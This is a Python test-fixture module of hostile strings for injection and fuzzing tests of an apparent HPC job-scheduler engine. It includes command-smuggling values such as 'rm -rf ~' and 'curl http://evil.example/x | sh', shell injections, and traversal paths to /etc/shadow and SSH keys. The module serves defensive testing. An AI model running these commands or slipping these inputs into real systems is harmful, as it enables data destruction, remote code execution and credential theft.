"""Hostile strings: what an attacker, a careless user or a job's own output may put where the
engine expects a name, a path, a directive value or an event line. Shared by the injection
and fuzzing tests (every parser and renderer must take each of them without crashing)."""

from __future__ import annotations

# Values that would add a line or a command to a rendered script or a shell line
LINE_BREAKERS = [
    "a\nrm -rf ~",
    "a\rcurl http://evil.example/x | sh",
    "a\r\n#SBATCH --uid=0",
    "a\x00b",
    "a\x0bb",
    "a\x0cb",
    "a\x1bb",  # ESC: terminal escape sequences in logs
    "a\x7fb",
    "a\u2028b",
    "a\x85b",
]

# Values that a tool would read as one of its options
OPTION_LIKE = ["-delete", "--help", "-exec", "--output=/etc/passwd", "-o", "-", "--"]

# Shell metacharacters: harmless once quoted, commands when not
SHELL_META = [
    "$(touch PWNED)",
    "`touch PWNED`",
    "x; touch PWNED",
    "x && touch PWNED",
    "x | touch PWNED",
    "'; touch PWNED; '",
    '"; touch PWNED; "',
    "${IFS}touch${IFS}PWNED",
    "x > PWNED",
    "$HOME",
    "~root/x",
    "*",
]

# Paths that try to leave where they belong
PATHS = [
    "../../../etc/passwd",
    "/etc/shadow",
    "~/.ssh/authorized_keys",
    "~/.ipython/profile_default/startup/00-evil.py",
    "jobs/../../x",
    "a/./b//c",
    "/",
    "",
]

# Forged lines for the job event file (`TIME KIND TOKEN NATIVE RC MAC`)
EVENT_LINES = [
    "1700000000.0 end TOKEN 999999 0",
    "1700000000.0 end TOKEN 999999 0 " + "0" * 64,
    "1700000000.0 start TOKEN 1 0 " + "f" * 64,
    "nan end abc 1 0 " + "0" * 64,
    "inf end abc 1 0 " + "0" * 64,
    "1e400 end abc 1 0 " + "0" * 64,
    "-1e20 end abc 1 0 " + "0" * 64,
    "1700000000.0 end abcabc 1 99999999999999999999 " + "0" * 64,
    "1700000000.0 end abcabc 1 -1 " + "0" * 64,
    "1700000000.0  end abcabc 1 0 " + "0" * 64,
    "1700000000.0 end abcabc 1 0 " + "g" * 64,
    "\x00" * 10,
    "",
    " ",
    "x" * 100_000,
]

# Odd text for any parser
MISC = [
    "\ufeff#!/bin/bash",
    "#!/bin/bash\n#SBATCH --time=" + "9" * 400,
    "#!/bin/bash\n#SBATCH --mem=1e999G",
    "#!/bin/bash\n#SBATCH --nodes=" + "1" * 5000,
    "#!/bin/bash\n#SBATCH \"unterminated",
    "#!/bin/bash\n#PBS -l select=" + ":" * 2000,
    "#!/bin/bash\n#BSUB -R \"" + "(" * 2000,
    "#!/bin/bash\n# flux: -N" + " " * 1000,
    "{{ placeholder }}",
    "\udcff",
    "💥" * 100,
]

ALL = LINE_BREAKERS + OPTION_LIKE + SHELL_META + PATHS + EVENT_LINES + MISC
